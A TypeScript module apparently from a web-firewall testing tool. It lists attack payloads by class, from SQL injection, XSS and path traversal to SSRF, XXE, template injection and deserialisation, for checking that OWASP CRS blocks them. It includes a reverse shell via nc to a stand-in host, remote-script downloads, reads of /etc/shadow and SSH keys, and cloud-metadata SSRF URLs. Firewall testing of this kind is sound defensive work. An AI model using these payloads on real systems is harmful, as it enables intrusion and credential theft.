import type { AttackClass } from '../../model/index.js';
import type { Attack } from './attack.js';

/**
 * Payloads that we wrote ourselves. They are harmless to the origins to which slopegate sends them: they name no host
 * that exists, and they would read or run only things in the container. `expect: blocked` says that the OWASP CRS of
 * Debian 12 and 13 blocks every payload of the class with default settings (`test/traffic/library.docker.test.ts`).
 * Changing one changes the digests of traces that use it.
 */
export const ATTACKS: Readonly<Record<AttackClass, Attack>> = {
  sqli: {
    expect: 'blocked',
    place: { in: 'query', path: '/products', name: 'id' },
    payloads: [
      "7' OR '1'='1' -- ",
      '7 UNION SELECT name, password FROM users--',
      "7'; DROP TABLE orders; --",
      "7' AND SLEEP(5)-- ",
      '7) OR 1=1 LIMIT 1 OFFSET 3#',
      "'; EXEC xp_cmdshell('dir'); --",
      '7 AND (SELECT COUNT(*) FROM information_schema.tables) > 3',
      "admin' || (SELECT version()) || '",
    ],
  },
  xss: {
    expect: 'blocked',
    place: { in: 'form', path: '/comments', name: 'text' },
    payloads: [
      '<script>alert(document.cookie)</script>',
      '<img src=x onerror=alert(1)>',
      '"><svg onload=confirm(7)>',
      '<iframe src="javascript:alert(2)"></iframe>',
      '<body onpageshow=prompt(3)>',
      '<a href="javascript:fetch(\'//evil.invalid\')">here</a>',
      '<details open ontoggle=alert(4)>',
      "';alert(String.fromCharCode(88))//",
    ],
  },
  traversal: {
    expect: 'blocked',
    place: { in: 'query', path: '/download', name: 'file' },
    payloads: [
      '../../../../etc/passwd',
      '..%2f..%2f..%2fetc%2fshadow',
      '....//....//....//etc/hosts',
      '/var/www/../../etc/passwd',
      '..\\..\\..\\windows\\win.ini',
      '/etc/passwd',
      '../../../../proc/self/environ',
      '../../../.ssh/id_rsa',
    ],
  },
  command: {
    expect: 'blocked',
    place: { in: 'form', path: '/tools/ping', name: 'host' },
    payloads: [
      '127.0.0.1; cat /etc/passwd',
      '127.0.0.1 | cat /etc/shadow',
      '127.0.0.1 && wget http://evil.invalid/x.sh',
      '$(curl http://evil.invalid/)',
      '`uname -a`',
      '127.0.0.1; /bin/bash -i',
      '127.0.0.1 || nc -e /bin/sh evil.invalid 4444',
      '127.0.0.1; python3 -c \'import os; os.system("id")\'',
    ],
  },
  ssrf: {
    expect: 'any',
    place: { in: 'query', path: '/fetch', name: 'url' },
    payloads: [
      'http://169.254.169.254/latest/meta-data/',
      'http://127.0.0.1:6379/',
      'gopher://127.0.0.1:25/_HELO',
      'file:///etc/passwd',
      'http://[::1]:8080/admin',
      'dict://127.0.0.1:11211/stats',
      'http://metadata.google.internal/computeMetadata/v1/',
      'http://0x7f000001/server-status',
    ],
  },
  xxe: {
    expect: 'any',
    place: { in: 'body', path: '/api/orders', type: 'text/xml' },
    payloads: [
      '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><order>&x;</order>',
      '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY % x SYSTEM "http://evil.invalid/x.dtd"> %x;]><order/>',
      '<?xml version="1.0"?><!DOCTYPE o SYSTEM "http://evil.invalid/o.dtd"><order>1</order>',
      '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><order>&b;&b;</order>',
      '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x PUBLIC "p" ' +
        '"php://filter/read=convert.base64-encode/resource=index.php">]><order>&x;</order>',
    ],
  },
  inclusion: {
    expect: 'blocked',
    place: { in: 'query', path: '/page', name: 'include' },
    payloads: [
      'http://evil.invalid/shell.txt?',
      'php://filter/convert.base64-encode/resource=config.php',
      'php://input',
      'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==',
      'expect://id',
      'ftp://198.51.100.7/shell.php',
      'phar://uploads/a.jpg/x.php',
      'http://10.0.0.1/../../boot.ini',
    ],
  },
  template: {
    expect: 'blocked',
    place: { in: 'form', path: '/newsletter', name: 'greeting' },
    payloads: [
      "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      '<%= system("cat /etc/passwd") %>',
      '#{7*7}${{7*7}}',
      "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read()}}",
      '${jndi:ldap://evil.invalid/a}',
      '*{T(java.lang.System).getenv()}',
      '{% import os %}{{os.system("id")}}',
    ],
  },
  header: {
    expect: 'blocked',
    place: { in: 'query', path: '/go', name: 'to' },
    payloads: [
      '/home\r\nSet-Cookie: admin=1',
      '/home\r\nLocation: http://evil.invalid/',
      '/home\r\n\r\n<html><script>alert(1)</script>',
      '/home\nContent-Type: text/html',
      '/home\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK',
      '/x\r\nX-Forwarded-Host: evil.invalid',
    ],
  },
  scanner: {
    expect: 'blocked',
    place: { in: 'header', path: '/', name: 'User-Agent' },
    payloads: [
      'sqlmap/1.8#stable (https://sqlmap.org)',
      'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)',
      'Nmap Scripting Engine',
      'masscan/1.3',
      'WPScan v3.8',
      'DirBuster-1.0-RC1',
      'Acunetix-Product (WVS)',
      'Nessus',
      'havij',
      'w3af.sourceforge.net',
    ],
  },
  nosql: {
    expect: 'any',
    place: { in: 'body', path: '/api/login', type: 'application/json' },
    payloads: [
      '{"user":{"$ne":null},"password":{"$gt":""}}',
      '{"user":"admin","password":{"$regex":"^a"}}',
      '{"$where":"sleep(5000) || this.password.length > 0"}',
      '{"user":{"$in":["admin","root"]},"password":{"$exists":true}}',
      '{"user":"admin\' || \'1\'==\'1","password":"x"}',
      '{"filter":{"$function":{"body":"function(){return process.env}","args":[],"lang":"js"}}}',
    ],
  },
  deserialisation: {
    expect: 'blocked',
    place: { in: 'form', path: '/session', name: 'state' },
    payloads: [
      'org.apache.commons.collections.functors.InvokerTransformer',
      'O:8:"Evil_Run":1:{s:3:"cmd";s:2:"id";}',
      'a:1:{i:0;O:4:"Gone":0:{}}',
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]',
      '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"${jndi:ldap://evil.invalid/a}"}',
      '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}',
      'java.lang.Runtime.getRuntime',
      '\u00ac\u00ed\u0000\u0005sr\u0000',
    ],
  },
};
